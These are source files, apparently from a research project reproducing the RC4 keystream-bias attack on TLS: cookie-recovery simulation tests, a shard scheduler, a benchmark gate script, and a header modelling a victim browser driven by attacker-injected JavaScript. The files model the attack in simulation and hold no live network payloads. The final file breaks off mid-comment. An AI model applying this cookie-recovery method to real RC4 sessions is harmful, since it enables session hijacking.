