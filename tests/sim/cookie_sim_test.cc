#include "src/sim/cookie_sim.h"

#include <gtest/gtest.h>

#include <cmath>

#include "src/biases/mantin.h"
#include "src/sim/runner.h"

namespace rc4b::sim {
namespace {

CookieSimOptions SmallOptions() {
  CookieSimOptions options;
  options.cookie_length = 4;  // keeps the per-trial DP and sampling small
  options.max_gap = 16;
  options.trials = 4;
  options.seed = 5;
  return options;
}

TEST(CookieSimTest, AlphasMatchTheListingLayout) {
  // Pair t of m1 || cookie || mL: known pairs after the cookie need gap
  // >= L - 1 - t, known pairs before need gap >= t + 1 (Sect. 6.2).
  const size_t cookie_length = 16;
  const uint64_t max_gap = 20;
  const auto first = AbsabAlphasForPair(0, cookie_length, max_gap);
  ASSERT_EQ(first.size(), (max_gap - 15 + 1) + max_gap);
  EXPECT_DOUBLE_EQ(first[0], AbsabAlpha(15));
  const auto last = AbsabAlphasForPair(16, cookie_length, max_gap);
  ASSERT_EQ(last.size(), (max_gap + 1) + (max_gap - 17 + 1));
  EXPECT_DOUBLE_EQ(last[0], AbsabAlpha(0));
}

TEST(CookieSimTest, AggregatesBitExactAcrossWorkerCounts) {
  CookieSimOptions options = SmallOptions();
  const uint64_t ciphertexts = uint64_t{1} << 28;

  options.workers = 1;
  const auto one = RunCookieSimulations(CookieSimContext(options), ciphertexts);
  for (unsigned workers : {2u, 4u}) {
    options.workers = workers;
    const auto many =
        RunCookieSimulations(CookieSimContext(options), ciphertexts);
    EXPECT_EQ(one.budget_wins, many.budget_wins) << "workers=" << workers;
    EXPECT_EQ(one.best_wins, many.best_wins) << "workers=" << workers;
    EXPECT_EQ(one.trials, many.trials) << "workers=" << workers;
  }
}

TEST(CookieSimTest, MatchesSingleThreadedReferenceAtFixedSeed) {
  CookieSimOptions options = SmallOptions();
  options.workers = 3;
  const CookieSimContext context(options);
  const uint64_t ciphertexts = uint64_t{1} << 28;
  const auto aggregate = RunCookieSimulations(context, ciphertexts);

  // Per the contract, the checkpoint's seed stream is TrialSeed(seed,
  // ciphertexts) and trial t draws TrialRng(stream, t).
  const uint64_t stream = TrialSeed(options.seed, ciphertexts);
  uint64_t budget_wins = 0, best_wins = 0;
  for (uint64_t t = 0; t < options.trials; ++t) {
    Xoshiro256 rng = TrialRng(stream, t);
    const auto result = RunCookieTrial(context, ciphertexts, rng);
    EXPECT_TRUE(std::isfinite(result.truth_rank));
    budget_wins += result.rank_within_budget ? 1 : 0;
    best_wins += result.best_is_truth ? 1 : 0;
  }
  EXPECT_EQ(aggregate.budget_wins, budget_wins);
  EXPECT_EQ(aggregate.best_wins, best_wins);
  EXPECT_EQ(aggregate.trials, options.trials);
}

TEST(CookieSimTest, PaperScaleSignalRecoversShortCookie) {
  // At 2^34 ciphertexts the combined FM + ABSAB signal recovers a 4-char
  // alphabet-restricted cookie outright (Fig. 7 hits ~100% for a single
  // unconstrained pair at this scale).
  CookieSimOptions options = SmallOptions();
  options.workers = 2;
  const CookieSimContext context(options);
  const auto aggregate =
      RunCookieSimulations(context, uint64_t{1} << 34);
  EXPECT_EQ(aggregate.best_wins, options.trials);
  EXPECT_EQ(aggregate.budget_wins, options.trials);
}

}  // namespace
}  // namespace rc4b::sim
