#include "src/orchestrate/scheduler.h"

#include <algorithm>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <thread>

#include <sys/wait.h>
#include <unistd.h>

#include "src/common/fault_injector.h"
#include "src/orchestrate/lease.h"
#include "src/store/grid_file.h"

namespace rc4b::orchestrate {

namespace {

std::string OwnerTag(pid_t pid, uint32_t attempt) {
  return std::to_string(pid) + ".a" + std::to_string(attempt);
}

// The provenance a valid final grid for shard `index` must carry.
store::GridMeta WantedShardMeta(const store::Manifest& manifest, uint32_t index) {
  store::GridMeta want = manifest.grid;
  want.key_begin = manifest.shards[index].key_begin;
  want.key_end = manifest.shards[index].key_end;
  want.samples = 0;
  return want;
}

// Full validation of a shard's final grid: readable, CRCs good, same
// dataset, exact key range. This is the scheduler's defense against workers
// that exited 0 over an artifact corrupted after commit (crc-flip).
IoStatus ValidateShardFinal(const store::Manifest& manifest, uint32_t index,
                            const std::string& final_path) {
  store::StoredGrid grid;
  if (IoStatus status = store::ReadGridFile(final_path, &grid); !status.ok()) {
    return status;
  }
  const store::GridMeta want = WantedShardMeta(manifest, index);
  if (IoStatus status = store::CheckSameDataset(want, grid.meta, final_path);
      !status.ok()) {
    return status;
  }
  if (grid.meta.key_begin != want.key_begin || grid.meta.key_end != want.key_end) {
    return IoStatus::Fail(final_path + ": covers keys [" +
                          std::to_string(grid.meta.key_begin) + ", " +
                          std::to_string(grid.meta.key_end) +
                          "), shard owns [" + std::to_string(want.key_begin) +
                          ", " + std::to_string(want.key_end) + ")");
  }
  return IoStatus::Ok();
}

// Keys completed per on-disk provenance: the final grid if valid, else a
// valid checkpoint's covered prefix, else zero.
uint64_t ShardProgressKeys(const store::Manifest& manifest, uint32_t index,
                           const std::string& final_path) {
  const store::ShardEntry& shard = manifest.shards[index];
  if (ValidateShardFinal(manifest, index, final_path).ok()) {
    return shard.key_end - shard.key_begin;
  }
  store::StoredGrid ckpt;
  if (!store::ReadGridFile(store::CheckpointPath(final_path), &ckpt).ok()) {
    return 0;
  }
  const store::GridMeta want = WantedShardMeta(manifest, index);
  if (!store::CheckSameDataset(want, ckpt.meta, final_path).ok() ||
      ckpt.meta.key_begin != shard.key_begin || ckpt.meta.key_end > shard.key_end) {
    return 0;
  }
  return ckpt.meta.key_end - shard.key_begin;
}

bool PathExists(const std::string& path) { return ::access(path.c_str(), F_OK) == 0; }

// Worker body, run in the forked child. Exit code follows the shared
// contract: 0 done, 75 retryable (lease busy/lost, transient I/O), 1 fatal.
int RunShardWorker(const store::Manifest& manifest,
                   const std::string& manifest_path, uint32_t index,
                   const CampaignOptions& options, uint32_t attempt,
                   Clock* clock) {
  // The inherited environment, not the parent's parse of it, decides which
  // faults this worker runs under.
  FaultInjector::Instance().ReloadFromEnv();
  const std::string final_path =
      store::ResolveManifestPath(manifest_path, manifest.shards[index].path);
  const std::string lease_path = LeasePath(final_path);
  const std::string owner = OwnerTag(::getpid(), attempt);
  Lease lease;
  if (IoStatus status = AcquireLease(lease_path, owner, clock->NowMs(),
                                     options.lease_ttl_ms, attempt, &lease);
      !status.ok()) {
    std::fprintf(stderr, "shard %u worker: %s\n", index, status.message().c_str());
    return ExitCodeForStatus(status);
  }
  store::ShardRunOptions run = options.shard;
  run.on_checkpoint = [&](const store::ShardRunResult&) {
    // Checkpoint cadence is heartbeat cadence; losing the lease here stops
    // the worker before it can touch files a stealer now owns.
    return RenewLease(lease_path, owner, clock->NowMs());
  };
  store::ShardRunResult result;
  const IoStatus status = store::RunShard(manifest, manifest_path, index, run,
                                          &result);
  ReleaseLease(lease_path, owner);
  if (!status.ok()) {
    std::fprintf(stderr, "shard %u worker: %s\n", index, status.message().c_str());
  }
  return ExitCodeForStatus(status);
}

}  // namespace

const char* ShardStateName(ShardState state) {
  switch (state) {
    case ShardState::kPending:
      return "pending";
    case ShardState::kRunning:
      return "running";
    case ShardState::kDone:
      return "done";
    case ShardState::kSkipped:
      return "skipped";
    case ShardState::kQuarantined:
      return "quarantined";
  }
  return "unknown";
}

bool CampaignReport::complete() const {
  return std::all_of(shards.begin(), shards.end(), [](const ShardStatus& s) {
    return s.state == ShardState::kDone || s.state == ShardState::kSkipped;
  });
}

size_t CampaignReport::quarantined() const {
  return static_cast<size_t>(
      std::count_if(shards.begin(), shards.end(), [](const ShardStatus& s) {
        return s.state == ShardState::kQuarantined;
      }));
}

std::string CampaignReport::Summary() const {
  size_t done = 0;
  for (const ShardStatus& shard : shards) {
    done += shard.state == ShardState::kDone || shard.state == ShardState::kSkipped
                ? 1
                : 0;
  }
  std::string text = "campaign: " + std::to_string(done) + "/" +
                     std::to_string(shards.size()) + " shards complete, " +
                     std::to_string(quarantined()) + " quarantined\n";
  for (size_t i = 0; i < shards.size(); ++i) {
    const ShardStatus& shard = shards[i];
    text += "  shard " + std::to_string(i) + ": " + ShardStateName(shard.state) +
            " attempts=" + std::to_string(shard.attempts) +
            " keys=" + std::to_string(shard.keys_completed);
    if (!shard.note.empty()) {
      text += " (" + shard.note + ")";
    }
    for (const std::string& file : shard.quarantined_files) {
      text += "\n    quarantined file: " + file;
    }
    text += "\n";
  }
  return text;
}

std::vector<uint64_t> CampaignProgress(const store::Manifest& manifest,
                                       const std::string& manifest_path) {
  std::vector<uint64_t> keys(manifest.shards.size(), 0);
  for (uint32_t i = 0; i < manifest.shards.size(); ++i) {
    const std::string final_path =
        store::ResolveManifestPath(manifest_path, manifest.shards[i].path);
    keys[i] = ShardProgressKeys(manifest, i, final_path);
  }
  return keys;
}

CampaignScheduler::CampaignScheduler(store::Manifest manifest,
                                     std::string manifest_path,
                                     CampaignOptions options)
    : manifest_(std::move(manifest)),
      manifest_path_(std::move(manifest_path)),
      options_(options),
      clock_(options.clock != nullptr ? options.clock
                                      : &SystemClock::Instance()) {}

std::string CampaignScheduler::FinalPath(uint32_t index) const {
  return store::ResolveManifestPath(manifest_path_, manifest_.shards[index].path);
}

void CampaignScheduler::InitialScan() {
  for (uint32_t i = 0; i < slots_.size(); ++i) {
    Slot& slot = slots_[i];
    const store::ShardEntry& shard = manifest_.shards[i];
    if (shard.key_end <= options_.merged_through_key) {
      slot.status.state = ShardState::kSkipped;
      slot.status.keys_completed = shard.key_end - shard.key_begin;
      slot.status.note = "covered by previous merge";
      continue;
    }
    const std::string final_path = FinalPath(i);
    if (PathExists(final_path) &&
        ValidateShardFinal(manifest_, i, final_path).ok()) {
      slot.status.state = ShardState::kDone;
      slot.status.keys_completed = shard.key_end - shard.key_begin;
      slot.status.note = "already complete";
      continue;
    }
    RecordProgress(i);  // a valid checkpoint resumes inside the worker
  }
}

void CampaignScheduler::RecordProgress(uint32_t index) {
  slots_[index].status.keys_completed =
      ShardProgressKeys(manifest_, index, FinalPath(index));
}

size_t CampaignScheduler::QuarantineInvalidArtifacts(uint32_t index) {
  Slot& slot = slots_[index];
  const std::string final_path = FinalPath(index);
  const std::string ckpt_path = store::CheckpointPath(final_path);
  size_t moved = 0;
  const auto set_aside = [&](const std::string& path, bool valid) {
    if (!PathExists(path) || valid) {
      return;
    }
    const std::string dest =
        path + ".quarantined" + std::to_string(slot.status.attempts);
    if (std::rename(path.c_str(), dest.c_str()) == 0) {
      slot.status.quarantined_files.push_back(dest);
      ++moved;
    } else {
      std::remove(path.c_str());  // can't set aside: at least unblock retries
      ++moved;
    }
  };
  set_aside(final_path, ValidateShardFinal(manifest_, index, final_path).ok());
  const store::GridMeta want = WantedShardMeta(manifest_, index);
  store::StoredGrid ckpt;
  const bool ckpt_valid =
      store::ReadGridFile(ckpt_path, &ckpt).ok() &&
      store::CheckSameDataset(want, ckpt.meta, ckpt_path).ok() &&
      ckpt.meta.key_begin == want.key_begin && ckpt.meta.key_end <= want.key_end;
  set_aside(ckpt_path, ckpt_valid);
  return moved;
}

void CampaignScheduler::AttemptFailed(uint32_t index, const std::string& reason,
                                      uint64_t now_ms) {
  Slot& slot = slots_[index];
  RecordProgress(index);
  if (slot.status.attempts >= options_.retry.max_attempts) {
    slot.status.state = ShardState::kQuarantined;
    slot.status.note = "quarantined after " +
                       std::to_string(slot.status.attempts) +
                       " attempts; last failure: " + reason;
    std::fprintf(stderr, "campaign: shard %u %s\n", index,
                 slot.status.note.c_str());
    return;
  }
  slot.status.state = ShardState::kPending;
  slot.status.note = reason;
  slot.not_before_ms =
      now_ms + options_.retry.DelayMs(slot.status.attempts, index);
}

void CampaignScheduler::Launch(uint32_t index, uint64_t now_ms) {
  Slot& slot = slots_[index];
  ++slot.status.attempts;
  // Flush before fork so buffered output is not emitted twice.
  std::fflush(stdout);
  std::fflush(stderr);
  const pid_t pid = ::fork();
  if (pid < 0) {
    // Could not spawn: not the shard's fault, so no attempt is consumed;
    // retry after one backoff step.
    --slot.status.attempts;
    slot.status.note = "fork failed";
    slot.not_before_ms = now_ms + options_.retry.DelayMs(1, index);
    return;
  }
  if (pid == 0) {
    // Child: run the shard and leave through _exit — the worker must not
    // unwind into the parent's atexit/test machinery.
    ::_exit(RunShardWorker(manifest_, manifest_path_, index, options_,
                           slot.status.attempts, clock_));
  }
  slot.pid = pid;
  slot.launched_ms = now_ms;
  slot.kill_sent = false;
  slot.status.state = ShardState::kRunning;
}

void CampaignScheduler::HandleExit(uint32_t index, int wait_status,
                                   uint64_t now_ms) {
  Slot& slot = slots_[index];
  const pid_t pid = slot.pid;
  slot.pid = -1;
  // The worker is gone; if the lease is still its own, break it now instead
  // of waiting out the TTL.
  const std::string lease_path = LeasePath(FinalPath(index));
  Lease lease;
  if (ReadLeaseFile(lease_path, &lease).ok() &&
      lease.owner.rfind(std::to_string(pid) + ".", 0) == 0) {
    std::remove(lease_path.c_str());
  }

  if (WIFEXITED(wait_status) && WEXITSTATUS(wait_status) == kExitOk) {
    // Trust but verify: the artifact, not the exit code, is the source of
    // truth (a byte flipped after commit must not reach the merge).
    const IoStatus valid = ValidateShardFinal(manifest_, index, FinalPath(index));
    if (valid.ok()) {
      slot.status.state = ShardState::kDone;
      slot.status.keys_completed =
          manifest_.shards[index].key_end - manifest_.shards[index].key_begin;
      slot.status.note.clear();
      return;
    }
    QuarantineInvalidArtifacts(index);
    AttemptFailed(index, "final grid failed validation: " + valid.message(),
                  now_ms);
    return;
  }
  if (WIFSIGNALED(wait_status)) {
    AttemptFailed(index,
                  "worker killed by signal " + std::to_string(WTERMSIG(wait_status)),
                  now_ms);
    return;
  }
  const int code = WIFEXITED(wait_status) ? WEXITSTATUS(wait_status) : -1;
  if (code == kExitRetryable) {
    AttemptFailed(index, "worker exited retryable", now_ms);
    return;
  }
  // Fatal exit. If corrupt artifacts explain it, set them aside and retry
  // from a clean slate; otherwise retrying the same input cannot help.
  if (QuarantineInvalidArtifacts(index) > 0) {
    AttemptFailed(index,
                  "worker exited fatal (code " + std::to_string(code) +
                      "); corrupt artifacts set aside",
                  now_ms);
    return;
  }
  RecordProgress(index);
  slot.status.state = ShardState::kQuarantined;
  slot.status.note = "fatal worker exit (code " + std::to_string(code) + ")";
  std::fprintf(stderr, "campaign: shard %u %s\n", index, slot.status.note.c_str());
}

IoStatus CampaignScheduler::Run(CampaignReport* report) {
  *report = CampaignReport{};
  if (IoStatus status = store::ValidateManifest(manifest_, manifest_path_);
      !status.ok()) {
    return status;
  }
  slots_.assign(manifest_.shards.size(), Slot{});
  InitialScan();

  while (true) {
    const uint64_t now = clock_->NowMs();
    // Reap exited workers.
    for (uint32_t i = 0; i < slots_.size(); ++i) {
      Slot& slot = slots_[i];
      if (slot.status.state != ShardState::kRunning) {
        continue;
      }
      int wait_status = 0;
      const pid_t got = ::waitpid(slot.pid, &wait_status, WNOHANG);
      if (got == slot.pid) {
        HandleExit(i, wait_status, now);
      } else if (got < 0) {
        slot.pid = -1;
        AttemptFailed(i, "worker process lost (waitpid failed)", now);
      }
    }
    // Kill workers whose lease heartbeat went stale (stalled I/O, livelock).
    for (uint32_t i = 0; i < slots_.size(); ++i) {
      Slot& slot = slots_[i];
      if (slot.status.state != ShardState::kRunning || slot.kill_sent) {
        continue;
      }
      uint64_t heartbeat = slot.launched_ms;
      Lease lease;
      if (ReadLeaseFile(LeasePath(FinalPath(i)), &lease).ok()) {
        heartbeat = std::max(heartbeat, lease.heartbeat_ms);
      }
      if (heartbeat <= now && now - heartbeat >= options_.lease_ttl_ms) {
        ::kill(slot.pid, SIGKILL);  // reaped (as signaled) on the next poll
        slot.kill_sent = true;
        slot.status.note = "heartbeat stale; worker killed";
      }
    }
    // Launch pending shards under the parallelism cap and backoff gates.
    uint32_t running = 0;
    for (const Slot& slot : slots_) {
      running += slot.status.state == ShardState::kRunning ? 1 : 0;
    }
    bool pending = false;
    for (uint32_t i = 0; i < slots_.size(); ++i) {
      if (slots_[i].status.state != ShardState::kPending) {
        continue;
      }
      pending = true;
      if (running < options_.max_parallel && now >= slots_[i].not_before_ms) {
        Launch(i, now);
        ++running;
      }
    }
    if (running == 0 && !pending) {
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(options_.poll_ms));
  }

  report->shards.reserve(slots_.size());
  for (const Slot& slot : slots_) {
    report->shards.push_back(slot.status);
  }
  return IoStatus::Ok();
}

}  // namespace rc4b::orchestrate
