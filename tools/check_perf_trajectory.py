#!/usr/bin/env python3
"""Perf-trajectory regression gate over BENCH_*.json artifacts.

Compares the current run's bench JSON files (bench/harness.h JsonTrajectory
format, schema in bench/trajectory/README.md) against a previous run's and
fails loudly when a throughput metric regressed beyond the threshold.

A point is only compared when it is actually comparable:
  * same file name (BENCH_engine_sharded_1t.json vs its previous self),
  * same kernel AND same resolved lane width (the "kernel" and "interleave"
    fields, when present) — a dispatch change, including the same kernel
    running at a different width, is reported as a NOTE, not a perf
    regression,
  * same host, unless --allow-cross-host is given (GitHub runners have
    ephemeral hostnames, so CI passes it and regressions become warnings
    instead of errors; on a stable perf box the default strict mode holds).

Only rate-like metrics gate (keys such as "*_ks_per_s", "*_per_second",
"*trials_per_s"): a drop > --threshold (default 15%) on a comparable point
is an error. Everything else is context.

Usage:
  tools/check_perf_trajectory.py --previous prev-dir --current cur-dir \
      [--threshold 0.15] [--allow-cross-host]

Exit status: 1 when a strict comparison regressed (or inputs are unusable),
0 otherwise. Output uses GitHub error/warning annotations so the failures
surface on the workflow summary.
"""

import argparse
import json
import pathlib
import sys

RATE_SUFFIXES = ("_ks_per_s", "_per_second", "_trials_per_s", "_items_per_s")


def is_rate_metric(key):
    return key.endswith(RATE_SUFFIXES) or "_per_second" in key


def load_bench_files(directory):
    """Returns {file name: parsed object} for every BENCH_*.json below."""
    out = {}
    for path in sorted(pathlib.Path(directory).rglob("BENCH_*.json")):
        try:
            with open(path, encoding="utf-8") as fh:
                out[path.name] = json.load(fh)
        except (OSError, json.JSONDecodeError) as err:
            print(f"::warning::unreadable {path}: {err}")
    return out


def annotate(kind, message):
    print(f"::{kind}::{message}")


def compare_file(name, prev, cur, threshold, allow_cross_host):
    """Returns the number of hard failures for one bench file pair."""
    failures = 0
    prev_host = prev.get("host", "unknown")
    cur_host = cur.get("host", "unknown")
    same_host = prev_host == cur_host
    if not same_host and not allow_cross_host:
        annotate(
            "error",
            f"{name}: host changed ({prev_host} -> {cur_host}); perf points are "
            "not comparable — rerun on the same host or pass --allow-cross-host",
        )
        return 1

    prev_kernel = prev.get("kernel")
    cur_kernel = cur.get("kernel")
    if prev_kernel is not None and cur_kernel is not None and prev_kernel != cur_kernel:
        annotate(
            "notice",
            f"{name}: dispatched kernel changed ({prev_kernel} -> {cur_kernel}); "
            "skipping rate comparisons for this file",
        )
        return 0

    # Same kernel at a different resolved lane width is the same math on a
    # different schedule — a dispatch change (e.g. a retuned preferred
    # width), not a like-for-like perf point.
    prev_width = prev.get("interleave")
    cur_width = cur.get("interleave")
    if prev_width is not None and cur_width is not None and prev_width != cur_width:
        annotate(
            "notice",
            f"{name}: resolved lane width changed ({prev_width} -> {cur_width}, "
            f"kernel {cur_kernel or 'n/a'}); skipping rate comparisons for "
            "this file",
        )
        return 0

    strict = same_host
    for key, prev_value in prev.items():
        if not is_rate_metric(key):
            continue
        cur_value = cur.get(key)
        if not isinstance(prev_value, (int, float)) or not isinstance(
            cur_value, (int, float)
        ):
            continue
        if prev_value <= 0:
            continue
        drop = (prev_value - cur_value) / prev_value
        if drop <= threshold:
            continue
        message = (
            f"{name}: {key} dropped {drop:.1%} "
            f"({prev_value:.0f} -> {cur_value:.0f}, threshold {threshold:.0%}"
            f", kernel {cur_kernel or 'n/a'}, host {cur_host})"
        )
        if strict:
            annotate("error", message)
            failures += 1
        else:
            annotate("warning", message + " [cross-host: warning only]")
    return failures


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--previous", required=True, help="dir of previous BENCH_*.json")
    parser.add_argument("--current", required=True, help="dir of current BENCH_*.json")
    parser.add_argument("--threshold", type=float, default=0.15,
                        help="max allowed fractional drop (default 0.15)")
    parser.add_argument("--allow-cross-host", action="store_true",
                        help="downgrade cross-host regressions to warnings")
    args = parser.parse_args()

    previous = load_bench_files(args.previous)
    current = load_bench_files(args.current)
    if not current:
        annotate("error", f"no BENCH_*.json found under {args.current}")
        return 1
    if not previous:
        # First run ever (or expired artifacts): nothing to gate against.
        annotate("notice", f"no previous BENCH_*.json under {args.previous}; "
                           "recording baseline only")
        return 0

    failures = 0
    compared = 0
    for name, prev in sorted(previous.items()):
        cur = current.get(name)
        if cur is None:
            annotate("warning", f"{name}: present in previous run but missing now")
            continue
        compared += 1
        failures += compare_file(name, prev, cur, args.threshold,
                                 args.allow_cross_host)

    print(f"compared {compared} bench file(s); {failures} regression(s)")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
