#include <cmath>
#include "src/rc4/keygen.h"

#include <set>

#include <gtest/gtest.h>

#include "src/common/bytes.h"

namespace rc4b {
namespace {

TEST(KeygenTest, Deterministic) {
  Rc4KeyGenerator a(1);
  Rc4KeyGenerator b(1);
  for (int i = 0; i < 32; ++i) {
    EXPECT_EQ(a.NextKey(), b.NextKey());
  }
}

TEST(KeygenTest, DifferentWorkersIndependent) {
  Rc4KeyGenerator a(1);
  Rc4KeyGenerator b(2);
  int equal = 0;
  for (int i = 0; i < 32; ++i) {
    equal += a.NextKey() == b.NextKey() ? 1 : 0;
  }
  EXPECT_EQ(equal, 0);
}

TEST(KeygenTest, KeysAreDistinct) {
  Rc4KeyGenerator gen(7);
  std::set<std::string> seen;
  for (int i = 0; i < 1000; ++i) {
    const auto key = gen.NextKey();
    seen.insert(ToHex(key));
  }
  EXPECT_EQ(seen.size(), 1000u);
}

TEST(KeygenTest, SeekReproducesStream) {
  Rc4KeyGenerator a(3);
  std::vector<std::array<uint8_t, 16>> keys;
  for (int i = 0; i < 10; ++i) {
    keys.push_back(a.NextKey());
  }
  Rc4KeyGenerator b(3);
  b.Seek(5);
  EXPECT_EQ(b.NextKey(), keys[5]);
  EXPECT_EQ(b.NextKey(), keys[6]);
  b.Seek(0);
  EXPECT_EQ(b.NextKey(), keys[0]);
}

TEST(KeygenTest, KeyBytesLookUniform) {
  // Cheap sanity check on the AES-CTR construction: byte histogram over many
  // keys should be flat to within a few sigma.
  Rc4KeyGenerator gen(11);
  std::array<int, 256> counts{};
  const int keys = 4096;
  for (int i = 0; i < keys; ++i) {
    for (uint8_t b : gen.NextKey()) {
      ++counts[b];
    }
  }
  const double expected = keys * 16.0 / 256.0;  // 256 per value
  for (int v = 0; v < 256; ++v) {
    EXPECT_NEAR(counts[v], expected, 6 * std::sqrt(expected)) << "value " << v;
  }
}

}  // namespace
}  // namespace rc4b
