// Versioned on-disk format for keystream-statistics grids (docs/store.md).
//
// The paper's empirical bias grids took ~2^44 keystreams across ~80 machines
// (Sect. 3.2); a durable grid format is what lets that scale of generation be
// split across processes and hosts, checkpointed, merged and cached instead
// of being recomputed in-process on every run. A grid file carries:
//
//   * full provenance — generator kind, AES-CTR seed, global key range
//     [key_begin, key_end), rows/pairs, drop, bytes-per-key, the lockstep
//     interleave width it was generated with (informational: counts are
//     bit-identical for every width), and the format version;
//   * the raw 64-bit counter cells of a SingleByteGrid / DigraphGrid,
//     page-aligned so readers can mmap the file and sum shards zero-copy;
//   * a CRC32 per section (header-described meta and cells, reusing
//     src/crypto/crc32), so corruption is always a loud, path-qualified
//     error — a flipped byte can never merge silently.
//
// Layout (little-endian, offsets in bytes):
//   [0]  u64 magic            "R4BGRID1"
//   [8]  u64 format_version   currently 1
//   [16] u64 meta_bytes       length of the meta section
//   [24] u64 meta_crc32       CRC32 of the meta section (low 32 bits)
//   [32] u64 cells_offset     4096-multiple; meta + padding end here
//   [40] u64 cells_bytes      8 * rows * cells-per-row
//   [48] u64 cells_crc32      CRC32 of the cells section (low 32 bits)
//   [56] meta section (u64 fields, see GridMeta), zero-padded to cells_offset
//   [cells_offset] u64 cells, row-major — exactly the grid's Cells() block
#ifndef SRC_STORE_GRID_FILE_H_
#define SRC_STORE_GRID_FILE_H_

#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "src/common/io.h"
#include "src/stats/counters.h"

namespace rc4b::store {

inline constexpr uint64_t kGridFileMagic = 0x3144495247423452ULL;  // "R4BGRID1"
inline constexpr uint64_t kGridFormatVersion = 1;

// The dataset families of src/biases/dataset.h that produce grids.
enum class GridKind : uint64_t {
  kSingleByte = 1,       // GenerateSingleByteDataset (rows x 256 cells)
  kConsecutive = 2,      // GenerateConsecutiveDataset (rows x 65536)
  kPair = 3,             // GeneratePairDataset (rows == pairs.size(), x 65536)
  kLongTermDigraph = 4,  // GenerateLongTermDigraphDataset (256 x 65536)
};

// Counter cells per grid row: 256 for single-byte grids, 65536 for digraphs.
size_t CellsPerRow(GridKind kind);

// Stable names used in manifests and cache file names ("singlebyte", ...).
const char* GridKindName(GridKind kind);
bool ParseGridKind(std::string_view name, GridKind* out);

// Full provenance of a grid: everything needed to regenerate it bit-exactly,
// and everything merge/caching must agree on before combining counts.
struct GridMeta {
  GridKind kind = GridKind::kSingleByte;
  uint64_t seed = 1;       // AES-CTR key-generator seed
  uint64_t key_begin = 0;  // global key range [key_begin, key_end)
  uint64_t key_end = 0;
  uint64_t rows = 0;          // grid positions (pairs.size() for kPair)
  uint64_t drop = 0;          // initial keystream bytes discarded per key
  uint64_t interleave = 0;    // lockstep width used (informational)
  uint64_t bytes_per_key = 0;  // long-term kinds only; 0 otherwise
  uint64_t samples = 0;        // grid.keys(): keys (short-term) or samples
  std::vector<std::pair<uint32_t, uint32_t>> pairs;  // kPair only

  uint64_t keys() const { return key_end - key_begin; }
  uint64_t cell_count() const { return rows * CellsPerRow(kind); }

  friend bool operator==(const GridMeta&, const GridMeta&) = default;
};

// Internal consistency: nonzero rows, ordered key range, pairs iff kPair.
IoStatus ValidateMeta(const GridMeta& meta, const std::string& context);

// Do two grids describe slices of the same logical dataset? Everything must
// match except the key range, sample count and the (informational) interleave
// width. Returns a diagnostic naming the first mismatching field.
IoStatus CheckSameDataset(const GridMeta& want, const GridMeta& got,
                          const std::string& context);

// A fully-loaded grid file: provenance + owned counter cells.
struct StoredGrid {
  GridMeta meta;
  AlignedVector<uint64_t> cells;
};

// Serializes meta + cells to `path` atomically (temp file + rename); a
// concurrent reader or a crash never observes a torn grid.
IoStatus WriteGridFile(const std::string& path, const GridMeta& meta,
                       std::span<const uint64_t> cells);

// WriteGridFile with crash durability (fsync file before the rename, fsync
// the parent directory after it). Checkpoints and final shard grids use
// this: a host crash right after the call must never resurrect the previous
// file, or a resumed worker would trust progress the disk no longer holds.
IoStatus WriteGridFileDurable(const std::string& path, const GridMeta& meta,
                              std::span<const uint64_t> cells);

// Reads and fully validates (magic, version, structure, both CRCs) `path`.
IoStatus ReadGridFile(const std::string& path, StoredGrid* out);

// Zero-copy validated view of a grid file: the header is parsed and both
// CRCs checked on Open(), then cells() aliases the mapped file directly —
// merging N shards touches every counter exactly once.
class GridFileView {
 public:
  IoStatus Open(const std::string& path);

  const GridMeta& meta() const { return meta_; }
  std::span<const uint64_t> cells() const { return cells_; }

 private:
  MmapFile map_;
  GridMeta meta_;
  std::span<const uint64_t> cells_;
};

// Rebuild in-memory grids from a stored one. The caller must have checked
// the kind: ToSingleByteGrid requires kSingleByte, ToDigraphGrid one of the
// digraph kinds.
SingleByteGrid ToSingleByteGrid(const StoredGrid& stored);
DigraphGrid ToDigraphGrid(const StoredGrid& stored);

}  // namespace rc4b::store

#endif  // SRC_STORE_GRID_FILE_H_
