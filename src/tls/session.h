// A persistent HTTPS session under attack (Sect. 6.3).
//
// The victim's browser, driven by attacker-injected JavaScript, issues a
// stream of same-origin HTTPS requests over one keep-alive TLS connection;
// every request carries the secure cookie. One RC4 stream encrypts them all,
// so long-term biases apply. The attacker observes only TLS records on the
// wire. This module simulates the victim (and optionally the server) and
// keeps the cookie aligned to a fixed keystream position modulo 256.
#ifndef SRC_TLS_SESSION_H_
#define SRC_TLS_SESSION_H_

#include <cstdint>

#include "src/common/rng.h"
#include "src/tls/http.h"
#include "src/tls/record.h"

namespace rc4b {

class TlsVictimSession {
 public:
  // `keystream_alignment` is the required cookie position modulo 256 within
  // the client->server RC4 keystream. Keys are drawn from `rng` (modelling
  // the TLS key derivation as uniformly random, as the paper does).
  TlsVictimSession(HttpRequestTemplate tmpl, Bytes cookie,
                   size_t keystream_alignment, Xoshiro256& rng);

  // Seals the next request; returns the full record (header || ciphertext).
  Bytes NextRequest();

  // Keystream position (0-based) of the first cookie byte in every request.
  // Constant modulo 256 across requests by construction.
  size_t CookieStreamPosition(uint64_t request_index) const;

  // Bytes of RC4 stream consumed per request (payload + MAC).
  size_t StreamStride() const { return tmpl_.total_size + HmacSha1::kDigestSize; }

  const Bytes& cookie() const { return cookie_; }
  const HttpRequestTemplate& request_template() const { return tmpl_; }

  // Plaintext byte at a given offset of the (aligned) request — the
  // attacker's "known plaintext" oracle for everything except the cookie.
  const Bytes& RequestPlaintext() const { return shaped_.plaintext; }
  size_t CookieOffsetInRequest() const { return shaped_.cookie_offset; }

  // Server-side reader sharing the session keys (for end-to-end examples).
  TlsReadState MakeServerReader() const;

 private:
  HttpRequestTemplate tmpl_;
  Bytes cookie_;
  Bytes mac_key_;
  Bytes rc4_key_;
  TlsWriteState writer_;
  ShapedRequest shaped_;
  uint64_t requests_sent_ = 0;
};

}  // namespace rc4b

#endif  // SRC_TLS_SESSION_H_
