// Scenario runner — any named scenario from the unified recovery registry
// (src/recovery/scenario.h, docs/recovery.md) end-to-end: victim setup,
// capture, likelihood source, candidate traversal, verification. One binary
// covers every workload the registry names (TKIP trailer variants, cookie
